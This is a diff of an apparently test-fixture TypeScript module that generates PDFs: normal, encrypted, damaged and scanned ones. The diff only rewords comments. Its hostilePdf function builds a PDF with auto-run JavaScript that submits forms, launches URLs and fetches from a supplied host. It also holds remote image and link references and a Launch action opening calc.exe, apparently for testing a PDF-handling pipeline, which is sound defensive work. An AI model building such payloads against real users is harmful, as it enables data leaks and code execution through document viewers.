@@ -1,7 +1,7 @@
-/** PDF files with words on their pages, made by code: each object at the place its table says. */
+/** Generated PDF files with text on their pages; the cross-reference table is correct. */
 
 type Given = {
-  /** What is drawn on each page: lines of text, or the operators themselves. */
+  /** The content of each page: lines of text, or raw operators. */
   pages?: (string[] | string)[]
   size?: readonly [width: number, height: number]
   /** Entries of the catalog, and of each page. */
@@ -19,14 +19,14 @@ const written = (lines: string[]) =>
     .map((line) => `0 -26 Td (${escaped(line)}) Tj`)
     .join(' ')} ET`
 
-/** Objects that stand beside the pages: the first is 100, as `catalog` and `page` may name it; the first two are X1 and X2 of each page. */
+/** Extra objects beside the pages. The first is 100, as `catalog` and `page` may reference it; the first two are X1 and X2 of each page. */
 export function pdfOf({ pages = [['Curriculum vitae']], size = [595, 842], catalog = '', page = '', objects = [], trailer = '' }: Given = {}): Buffer {
   const parts = new Map<number, Buffer>()
   const put = (id: number, body: string | Buffer) => parts.set(id, Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'))
   const idOf = (at: number) => 1_000 + at * 2
   put(1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`)
   put(2, `<</Type/Pages/Kids[${pages.map((_, at) => `${idOf(at)} 0 R`).join(' ')}]/Count ${pages.length}>>`)
-  // Neither is embedded: who shows it brings fonts of their own.
+  // Neither font is embedded: viewers have their own.
   put(3, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica-Bold>>')
   put(4, '<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>')
   objects.forEach((body, at) => put(100 + at, body))
@@ -57,7 +57,7 @@ export function pdfOf({ pages = [['Curriculum vitae']], size = [595, 842], catal
 const stream = (entries: string, data: string | Buffer) =>
   Buffer.concat([Buffer.from(`<<${entries}/Length ${data.length}>>stream\n`), Buffer.from(data), Buffer.from('\nendstream')])
 
-/** Everything that acts when a viewer lets it: as it is opened, as a page is seen, as something on it is pressed, and by addresses of elsewhere. */
+/** Everything that runs when a viewer allows it: on open, on page view, on a click, and by links to other sites. */
 export function hostilePdf(elsewhere: string): Buffer {
   const script = `app.alert('it has run'); this.submitForm('${elsewhere}script'); app.launchURL('${elsewhere}launched', true); fetch('${elsewhere}fetch')`
   const run = `<</S/JavaScript/JS(${escaped(script)})>>`
@@ -67,7 +67,7 @@ export function hostilePdf(elsewhere: string): Buffer {
     catalog: `/OpenAction ${run}/AA<</WC ${run}/WS ${run}>>/Names<</JavaScript<</Names[(a) ${run}]>>/EmbeddedFiles<</Names[(a.html) 106 0 R]>>>>/AcroForm<</Fields[104 0 R]/XFA 105 0 R/NeedAppearances true>>/URI<</Base(${elsewhere})>>`,
     page: `/AA<</O ${run}/C ${run}>>/Annots[101 0 R 102 0 R 103 0 R 104 0 R]`,
     objects: [
-      // A picture whose bytes lie elsewhere.
+      // An image whose bytes are on another server.
       stream(`/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}picture)>>`, ''),
       `<</Type/Annot/Subtype/Link${everywhere}/A<</S/URI/URI(${elsewhere}link)>>>>`,
       `<</Type/Annot/Subtype/Link${everywhere}/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>>>`,
@@ -83,20 +83,20 @@ export function hostilePdf(elsewhere: string): Buffer {
   })
 }
 
-/** It opens with a password that nobody has. */
+/** Encrypted with a password that no one has. */
 export const lockedPdf = () =>
   pdfOf({
     trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>/ID[<${'01'.repeat(16)}><${'01'.repeat(16)}>]`,
   })
 
-/** A PDF by its first and last bytes, and nothing of one between them. */
+/** A PDF by its first and last bytes only. */
 export const damagedPdf = () => Buffer.from(`%PDF-1.7\n${'no object stands here\n'.repeat(40)}%%EOF\n`)
 
 // A black square on white, 16 by 16, in JPEG 2000.
 const JPEG_2000 =
   '/0//UQApAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAABBwEB/1IADAAAAAEAAAQEAAH/XAAEQED/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjT/kAAKAAAAAACEAAH/k9+DmHiZDMZCquOesuwUzdv8rk3WAeQwAAMJCXL/HiAAAwkJSBMAYR5inEfcpoj7lNEhL4wcAAAYRzj/D9FOEfcpokJfGDgAADCOcf4/RThH3KaJCXxg4AAAwjnH+P0U4R9ymiQl8YOAAAMI5x/j9FOEfcpokJf/2Q=='
 
-/** A scan, as office machines write them: no words, above a picture in JPEG 2000, below a black one as a fax sends it. */
+/** A scan as office machines write it: no text, above an image in JPEG 2000, below a black one as a fax sends it. */
 export const scannedPdf = () => {
   const picture = '/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceGray'
   return pdfOf({
